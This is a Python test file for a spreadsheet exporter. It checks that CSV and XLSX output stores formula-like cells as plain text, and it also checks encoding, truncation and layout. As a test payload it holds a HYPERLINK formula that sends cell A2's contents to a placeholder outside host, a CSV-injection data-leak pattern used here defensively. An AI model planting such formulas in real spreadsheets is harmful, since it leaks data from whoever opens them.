"""CSV and XLSX read back: exactly the text, nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.ui import fake_assistant
from ui import spreadsheets, table
from ui.spreadsheets import LONGEST_CELL, Format
from ui.table import Table

LEADS = ("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠")
LINK = 'HYPERLINK("http://elsewhere.example/?"&A2,"here")'


def tasks() -> Table:
    made = table.table(fake_assistant.tasks("市商务局牵头哪些任务？"))
    assert made is not None
    return made


def holding(*cells: str) -> Table:
    """The table with these as the first cells of its first line."""
    made = tasks()
    first = (*cells, *made.lines[0][len(cells) :])
    return replace(made, lines=(first, *made.lines[1:]))


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> Worksheet:
    (sheet,) = load_workbook(io.BytesIO(content)).worksheets
    return sheet


# A cell is text, whatever it begins with


@pytest.mark.parametrize("lead", LEADS)
def test_csv_makes_a_formula_harmless(lead: str) -> None:
    lines = read_csv(spreadsheets.written(holding(lead + LINK), Format.CSV))
    assert lines[1][0] == f"'{lead}{LINK}"


@pytest.mark.parametrize("lead", LEADS)
def test_xlsx_holds_a_formula_as_text_and_keeps_it_text(lead: str) -> None:
    cell = read_xlsx(spreadsheets.written(holding(lead + LINK), Format.XLSX))["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (lead + LINK, "s", True)


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "12.50", "TRUE", "2031-05-06", "1/11/17"])
def test_xlsx_takes_no_text_for_an_error_a_number_or_a_date(text: str) -> None:
    cell = read_xlsx(spreadsheets.written(holding(text), Format.XLSX))["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)


def test_a_question_that_is_a_formula_is_harmless_below_the_table_too() -> None:
    made = table.table(fake_assistant.tasks("=1+1 哪些"))
    assert made is not None
    assert read_csv(spreadsheets.written(made, Format.CSV))[-2] == ["问题", "'=1+1 哪些"]
    cell = read_xlsx(spreadsheets.written(made, Format.XLSX))["B5"]
    assert (cell.value, cell.data_type) == ("=1+1 哪些", "s")


def test_a_text_too_long_for_a_cell_is_cut_where_one_sees_it() -> None:
    whole, long = "长" * LONGEST_CELL, "长" * (LONGEST_CELL + 1)
    sheet = read_xlsx(spreadsheets.written(holding(whole, long), Format.XLSX))
    assert sheet["A2"].value == whole
    assert sheet["B2"].value == f"{'长' * (LONGEST_CELL - 1)}…"
    assert read_csv(spreadsheets.written(holding(long), Format.CSV))[1][0] == long


# What is read back is what was written


def test_csv_is_utf_8_with_a_mark_and_windows_line_ends() -> None:
    content = spreadsheets.written(tasks(), Format.CSV)

    assert content.startswith(b"\xef\xbb\xbf" + "文件,文号,".encode())
    assert content.count(b"\n") == content.count(b"\r\n") == 6
    assert read_csv(content) == [
        list(tasks().headings),
        *map(list, tasks().lines),
        [],
        ["问题", "市商务局牵头哪些任务？"],
        ["范围", "在 80 条中找到 2 条，已列全"],
    ]


def test_xlsx_has_the_table_its_remarks_and_its_layout() -> None:
    book = load_workbook(io.BytesIO(spreadsheets.written(tasks(), Format.XLSX)))
    (sheet,) = book.worksheets
    values = [[cell or "" for cell in line] for line in sheet.iter_rows(values_only=True)]

    assert (sheet.title, book.properties.title) == ("条款", "市商务局牵头哪些任务？")
    assert values[:3] == [list(tasks().headings), *map(list, tasks().lines)]
    assert values[3:] == [
        [""] * 13,
        ["问题", "市商务局牵头哪些任务？", *[""] * 11],
        ["范围", "在 80 条中找到 2 条，已列全", *[""] * 11],
    ]
    assert [cell.font.bold for cell in sheet[1]] == [True] * 13
    assert (sheet["A2"].font.bold, sheet["A5"].font.bold) == (False, True)
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:M3")
    assert (sheet["M2"].alignment.wrap_text, sheet["M2"].alignment.vertical) == (True, "top")
    assert (sheet.column_dimensions["C"].width, sheet.column_dimensions["M"].width) == (12, 90)


@given(st.text())
def test_any_question_can_be_written_and_is_read_back(question: str) -> None:
    made = table.table(fake_assistant.tasks(question))
    assert made is not None
    said = read_csv(spreadsheets.written(made, Format.CSV))[-2][1]
    assert said in (made.title, f"'{made.title}")
    assert (read_xlsx(spreadsheets.written(made, Format.XLSX))["B5"].value or "") == made.title


def test_a_format_bears_the_name_that_the_web_knows() -> None:
    assert Format.CSV.media_type == "text/csv"
    assert Format.XLSX.media_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
